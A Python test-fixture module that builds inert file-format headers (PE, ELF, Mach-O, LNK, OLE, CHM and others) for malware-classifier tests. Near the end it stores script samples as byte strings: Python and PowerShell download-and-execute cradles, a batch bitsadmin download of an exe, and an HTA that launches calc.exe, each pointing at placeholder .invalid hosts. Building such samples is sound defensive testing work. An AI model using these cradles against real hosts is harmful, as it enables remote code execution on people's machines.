"""Inert payload samples for the classifier tests, built from the formats' specifications.

Nothing here runs: the programs are headers only (a DOS stub that prints a message, an
ELF/Mach-O header without code), the scripts call invalid hosts (`.invalid`, RFC 2606).
"""

from __future__ import annotations

import struct

# MS-DOS header as every Microsoft and GNU linker writes it (PE/COFF spec, "MS-DOS Stub"):
# e_magic MZ, e_cblp 0x90, e_cp 3, e_cparhdr 4, e_maxalloc 0xFFFF, e_sp 0xB8, e_lfarlc 0x40.
DOS_HEADER = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    b"\xb8\x00\x00\x00\x00\x00\x00\x00\x40\x00\x00\x00\x00\x00\x00\x00"
)
# The stub program: push cs; pop ds; mov dx,0E; mov ah,9; int 21; mov ax,4C01; int 21
DOS_STUB = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
DOS_MESSAGE = b"This program cannot be run in DOS mode.\r\r\n$"
PE_OFFSET = 0x80


def real_pe(body: int = 512) -> bytes:
    """A PE as linkers lay it out: DOS header, stub with message, PE\\0\\0, COFF header."""
    dos = bytearray(DOS_HEADER.ljust(0x40, b"\x00"))
    dos[0x3C:0x40] = struct.pack("<I", PE_OFFSET)
    stub = (DOS_STUB + DOS_MESSAGE).ljust(PE_OFFSET - 0x40, b"\x00")
    coff = struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 0xF0, 0x22)  # AMD64, 1 section
    return bytes(dos) + stub + b"PE\x00\x00" + coff + bytes(body)


def elf64() -> bytes:
    """ELF e_ident (ELFCLASS64, ELFDATA2LSB, EV_CURRENT) and an x86-64 executable header."""
    ident = b"\x7fELF\x02\x01\x01\x00" + bytes(8)
    return ident + struct.pack("<HHI", 2, 0x3E, 1) + bytes(48)


def macho64() -> bytes:
    """MH_MAGIC_64 little-endian, CPU_TYPE_X86_64 (0x01000007), MH_EXECUTE."""
    return b"\xcf\xfa\xed\xfe" + struct.pack("<IIIIII", 0x01000007, 3, 2, 0, 0, 0) + bytes(64)


def java_class() -> bytes:
    """CAFEBABE, minor 0, major 52 (Java 8), a constant pool count."""
    return b"\xca\xfe\xba\xbe\x00\x00\x00\x34\x00\x10" + bytes(64)


def lnk() -> bytes:
    """[MS-SHLLINK] 2.1: HeaderSize 0x4C, LinkCLSID 00021401-0000-0000-C000-000000000046."""
    clsid = bytes.fromhex("0114020000000000c000000000000046")
    return struct.pack("<I", 0x4C) + clsid + bytes(0x4C - 20) + b"C:\\Windows\\System32\\calc.exe"


def cab() -> bytes:
    """[MS-CAB] CFHEADER: "MSCF", reserved1 0, cbCabinet, version 1.3."""
    return b"MSCF\x00\x00\x00\x00" + struct.pack("<I", 200) + bytes(12) + b"\x03\x01" + bytes(160)


def ole() -> bytes:
    """[MS-CFB] 2.2 header signature D0CF11E0A1B11AE1, minor 0x3E, major 3, FFFE order."""
    sig = bytes.fromhex("d0cf11e0a1b11ae1")
    return sig + bytes(16) + b"\x3e\x00\x03\x00\xfe\xff\x09\x00" + bytes(480)


def iso9660() -> bytes:
    """ECMA-119 8.4: system area (16 sectors of 2048), then a primary volume descriptor."""
    return bytes(0x8000) + b"\x01CD001\x01" + bytes(2041)


def chm() -> bytes:
    """ITSF header version 3 (the CHM container)."""
    return b"ITSF\x03\x00\x00\x00\x60\x00\x00\x00\x01\x00\x00\x00" + bytes(80)


def dex() -> bytes:
    """Dalvik executable: "dex\\n035\\0", checksum, signature, file size."""
    return b"dex\n035\x00" + bytes(24) + struct.pack("<I", 0x70) + bytes(80)


def wasm() -> bytes:
    """WebAssembly binary: "\\0asm", version 1, then a type section."""
    return b"\x00asm\x01\x00\x00\x00\x01\x05\x01\x60\x00\x01\x7f"


RTF = b"{\\rtf1\\ansi\\deff0 {\\object\\objemb {\\*\\objdata 0105000002000000}}}"
HTA = (
    b'<hta:application id="x" windowstate="minimize"/>\r\n<script language="VBScript">'
    b'CreateObject("WScript.Shell").Run "calc.exe"</script>\r\n'
)
PYTHON = (
    b"import base64, os\n"
    b"import urllib.request\n"
    b"def run(url):\n"
    b"    data = urllib.request.urlopen(url).read()\n"
    b"    exec(base64.b64decode(data))\n"
    b"run('http://x.invalid/p')\n"
)
POWERSHELL = b"IEX (New-Object Net.WebClient).DownloadString('http://x.invalid/a.ps1')"
BATCH = b"@echo off\r\nbitsadmin /transfer j http://x.invalid/a.exe %TEMP%\\a.exe\r\n"
